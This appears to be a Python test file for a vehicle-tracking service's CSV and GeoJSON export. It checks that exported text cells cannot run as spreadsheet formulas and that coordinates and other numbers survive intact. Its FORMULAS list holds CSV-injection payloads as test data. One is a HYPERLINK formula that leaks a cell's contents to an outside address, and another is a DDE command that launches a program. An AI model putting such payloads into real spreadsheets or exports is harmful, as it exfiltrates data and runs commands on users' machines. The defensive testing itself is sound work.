"""A track as CSV and GeoJSON: a spreadsheet evaluates none of its texts, and parsers read its numbers."""

import csv
import io
import json
import re
from collections.abc import Sequence
from typing import Any

import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from tests.support.track_rows import in_pieces
from tracking.api.tracks import CSV_COLUMNS, as_csv, as_geojson
from tracking.store.positions import TrackRow

NUMBERS = ("latitude", "longitude", "accuracy", "altitude", "speed", "bearing")
PLAIN = re.compile(r"-?\d+(\.\d+)?", re.ASCII)
FORMULAS = [
    '=HYPERLINK("http://192.0.2.7/?"&A2,"open")',
    "@SUM(1+1)",
    "+1+cmd|' /C calc'!A0",
    "\t=1+1",
    "-2+3",
    "\r=1",
    "\uff1d1+1",
]


def row_of(vehicle_id: str = "van", session: str | None = "s", trip_id: str | None = None, **known: Any) -> TrackRow:
    reals: dict[str, Any] = dict.fromkeys(NUMBERS) | {"latitude": 47.1, "longitude": 9.5} | known
    return TrackRow(vehicle_id, session, 1, 2, 3, **reals, trip_id=trip_id, suspect=None)


async def read(rows: Sequence[TrackRow]) -> list[dict[str, str]]:
    text = b"".join([piece async for piece in as_csv(in_pieces(rows), "")]).decode()
    return list(csv.DictReader(io.StringIO(text, newline="")))


def is_computed(cell: str) -> bool:
    return cell[:1] in (*"=+-@\t\r\n", "\uff1d", "\uff0b", "\uff0d", "\uff20") and not PLAIN.fullmatch(cell)


@pytest.mark.parametrize("text", [*FORMULAS, "-x8fKq"])
async def test_a_text_that_a_spreadsheet_would_compute_is_neutralised(text: str) -> None:
    good = row_of()
    for row, column in (
        (row_of(vehicle_id=text), "vehicle_id"),
        (row_of(session=text), "session"),
        (row_of(trip_id=text), "trip_id"),
    ):
        before, found, after = await read([good, row, good])
        assert found[column] == f"'{text}".replace("\r", " ")
        assert not any(map(is_computed, found.values()))
        assert before == after == (await read([good]))[0]


async def test_negative_numbers_stay_numbers() -> None:
    (found,) = await read([row_of(vehicle_id="-12", session="=1", latitude=-0.5, longitude=-180.0, altitude=-3.25)])
    assert [found[name] for name in ("vehicle_id", "latitude", "longitude", "altitude")] == ["-12", "-0.5", "-180.0", "-3.25"]


_number = st.floats(allow_nan=False, allow_infinity=False) | st.floats(-1e-3, 1e-3)
_text = st.text(st.characters(codec="utf-8", exclude_characters="\0"), max_size=8) | st.sampled_from(FORMULAS)


@given(st.lists(st.tuples(_text, _text, *[_number] * len(NUMBERS)), min_size=1, max_size=4))
@example([("van", "s", 51.4779, -0.00004, 1e22, -0.00065, 3e-9, 1e-320)])
@example([("1e-5", "2e-5", 1.0, 1.0, 1.0, 1.0, 1.0, 1.0)])
async def test_every_cell_is_what_it_was_and_none_is_computed(drawn: list[tuple[Any, ...]]) -> None:
    rows = [row_of(v, s, None, **dict(zip(NUMBERS, numbers, strict=True))) for v, s, *numbers in drawn]
    found = await read(rows)
    assert len(found) == len(rows)
    for cells, row in zip(found, rows, strict=True):
        assert tuple(cells) == CSV_COLUMNS
        assert not any(map(is_computed, cells.values()))
        assert cells["vehicle_id"].removeprefix("'") == row.vehicle_id.replace("\r", " ").removeprefix("'")
        assert cells["session"].removeprefix("'") == (row.session or "").replace("\r", " ").removeprefix("'")
        for name in NUMBERS:
            assert PLAIN.fullmatch(cells[name])
            assert float(cells[name]) == pytest.approx(getattr(row, name), rel=1e-15, abs=1e-12)


# Not across the antimeridian. `tests/test_tracks.py` tests the cut there.
@given(st.lists(st.tuples(st.floats(-90, 90), st.floats(-89, 89)), min_size=1, max_size=4))
async def test_geojson_has_the_very_numbers(places: list[tuple[float, float]]) -> None:
    rows = [row_of(latitude=latitude, longitude=longitude) for latitude, longitude in places]
    text = b"".join([piece async for piece in as_geojson(in_pieces(rows), "")])
    (feature,) = json.loads(text, parse_constant=pytest.fail)["features"]
    coordinates = feature["geometry"]["coordinates"]
    assert (coordinates if len(rows) > 1 else [coordinates]) == [[row.longitude, row.latitude] for row in rows]
